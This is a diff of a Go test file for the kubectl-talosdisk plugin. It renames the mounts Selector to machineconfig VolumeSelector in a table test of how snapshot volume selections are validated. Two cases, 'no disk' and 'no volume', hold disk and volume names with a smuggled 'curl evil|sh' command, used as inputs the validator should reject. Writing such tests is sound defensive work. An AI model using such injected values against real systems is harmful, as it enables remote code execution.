@@ -8,7 +8,7 @@ import (
 	"testing"
 
 	"github.com/talosdisk/kubectl-talosdisk/pkg/disk"
-	"github.com/talosdisk/kubectl-talosdisk/pkg/mounts"
+	"github.com/talosdisk/kubectl-talosdisk/pkg/machineconfig"
 	"github.com/talosdisk/kubectl-talosdisk/pkg/provisioner"
 	"github.com/talosdisk/kubectl-talosdisk/pkg/snapshot"
 )
@@ -67,12 +67,12 @@ func TestLoadHoldsSelectionsToTheGrammar(t *testing.T) {
 		selection snapshot.Selection
 		known     bool
 	}{
-		"a user volume":                     {selection: snapshot.Selection{Selector: mounts.Selector{Kind: "UserVolumeConfig", Name: "data"}, Disks: []string{"vdb"}}, known: true},
-		"a label longer than a partition's": {selection: snapshot.Selection{Selector: mounts.Selector{Kind: "SwapVolumeConfig", Name: long}}},
-		"an existing volume":                {selection: snapshot.Selection{Selector: mounts.Selector{Kind: "ExistingVolumeConfig", Name: long}, Volumes: []string{"vdb1", "dm-0"}}, known: true},
-		"a name that is no directory":       {selection: snapshot.Selection{Selector: mounts.Selector{Kind: "ExistingVolumeConfig", Name: "a/b"}}},
-		"no disk":                           {selection: snapshot.Selection{Selector: mounts.Selector{Kind: "UserVolumeConfig", Name: "data"}, Disks: []string{"vdb;curl evil|sh"}}},
-		"no volume":                         {selection: snapshot.Selection{Selector: mounts.Selector{Kind: "ExistingVolumeConfig", Name: "data"}, Volumes: []string{"vdb1;curl evil|sh"}}},
+		"a user volume":                     {selection: snapshot.Selection{VolumeSelector: machineconfig.VolumeSelector{Kind: "UserVolumeConfig", Name: "data"}, Disks: []string{"vdb"}}, known: true},
+		"a label longer than a partition's": {selection: snapshot.Selection{VolumeSelector: machineconfig.VolumeSelector{Kind: "SwapVolumeConfig", Name: long}}},
+		"an existing volume":                {selection: snapshot.Selection{VolumeSelector: machineconfig.VolumeSelector{Kind: "ExistingVolumeConfig", Name: long}, Volumes: []string{"vdb1", "dm-0"}}, known: true},
+		"a name that is no directory":       {selection: snapshot.Selection{VolumeSelector: machineconfig.VolumeSelector{Kind: "ExistingVolumeConfig", Name: "a/b"}}},
+		"no disk":                           {selection: snapshot.Selection{VolumeSelector: machineconfig.VolumeSelector{Kind: "UserVolumeConfig", Name: "data"}, Disks: []string{"vdb;curl evil|sh"}}},
+		"no volume":                         {selection: snapshot.Selection{VolumeSelector: machineconfig.VolumeSelector{Kind: "ExistingVolumeConfig", Name: "data"}, Volumes: []string{"vdb1;curl evil|sh"}}},
 	} {
 		s := &snapshot.Snapshot{Nodes: []snapshot.Node{{Name: "w-1", Selections: snapshot.Read([]snapshot.Selection{c.selection})}}}
 		var file bytes.Buffer
